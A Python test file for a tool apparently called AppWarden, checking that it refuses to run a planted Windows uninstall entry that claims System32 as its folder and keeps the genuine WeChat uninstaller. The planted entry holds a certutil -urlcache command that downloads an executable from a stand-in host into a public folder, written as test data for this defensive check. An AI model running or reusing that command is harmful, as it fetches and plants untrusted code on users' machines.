"""Removal plans built from a mounted Windows disk whose real hives (from ../shared, edited with
hivexsh) hold an uninstall entry that claims System32 as its install folder and calls certutil.

Windows itself cannot run here: these tests check the plan AppWarden builds from the registry values
the Windows source really reads, not what Windows would then do with the command.
"""

from __future__ import annotations

import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from appwarden.core.messages import Message
from appwarden.core.policy.loader import load_policies
from appwarden.core.removal.builder import Host, build_plan
from appwarden.core.removal.model import Actor
from appwarden.core.scan import run_scan
from appwarden.core.target import make_target
from tests.core.sources.conftest import windows_hives  # noqa: F401 (the fixture: hives built once with hivexsh)
from tests.core.sources.windows.windows_disk import (
    UNINSTALL,
    WECHAT_PUBLISHER,
    BuiltHives,
    add_entry,
    hivex_edit,
    layout_windows_disk,
)

CERTUTIL = r"C:\Windows\System32\certutil.exe -urlcache -split -f http://example.invalid/u.exe C:\Users\Public\u.exe"
WEIXIN_VALUES = {
    "DisplayName": "Weixin",
    "DisplayVersion": "4.0.3.22",
    "Publisher": WECHAT_PUBLISHER,
    "InstallLocation": r"C:\Windows\System32",
    "UninstallString": CERTUTIL,
}
WEIXIN_STEP = r"uninstall:windows_uninstall:HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\Weixin"
WECHAT_STEP = r"uninstall:windows_uninstall:HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion\Uninstall\WeChat"


@pytest.fixture
def disk_with_a_system32_entry(tmp_path: Path, windows_hives: BuiltHives) -> Path:
    software = tmp_path / "SOFTWARE"
    shutil.copyfile(windows_hives.software, software)
    hivex_edit(software, add_entry(UNINSTALL, "Weixin", WEIXIN_VALUES))
    return layout_windows_disk(tmp_path / "disk", replace(windows_hives, software=software))


def test_an_entry_that_claims_system32_gets_a_refused_person_step_with_the_reason(disk_with_a_system32_entry, tmp_path):
    target = make_target(disk_with_a_system32_entry)
    policies = load_policies()
    wechat = next(finding for finding in run_scan(target, policies).findings if finding.rule.id == "wechat")
    plan = build_plan(wechat, target, policies, Host(False, lambda name: False, tmp_path / "home"))
    steps = {step.id: step for step in plan.steps}

    reason = Message.of(
        "the entry says the app is installed in {folder}, which is {what}, not an app's own folder, so its uninstaller cannot be checked",
        folder=r"C:\Windows\System32", what=Message.of("a Windows folder or a folder inside it"),
    )
    refused = steps[WEIXIN_STEP]
    assert (refused.actor, refused.commands, refused.refused) == (Actor.PERSON, (), reason)
    assert refused.explanation.render() == (
        "Do this on the computer this disk belongs to. "
        "AppWarden will not run this app's uninstall command: the entry says the app is installed in C:\\Windows\\System32, "
        "which is a Windows folder or a folder inside it, not an app's own folder, so its uninstaller cannot be checked. "
        "Open Settings > Apps > Installed apps, find Weixin and choose Uninstall, or ask your help desk."
    )
    # The genuine WeChat entry on the same disk keeps its own uninstaller, shown for that computer.
    genuine = steps[WECHAT_STEP]
    assert (genuine.actor, genuine.refused, [c.argv for c in genuine.commands]) == (
        Actor.PERSON, None, [(r"C:\Program Files (x86)\Tencent\WeChat\Uninstall.exe",)],
    )
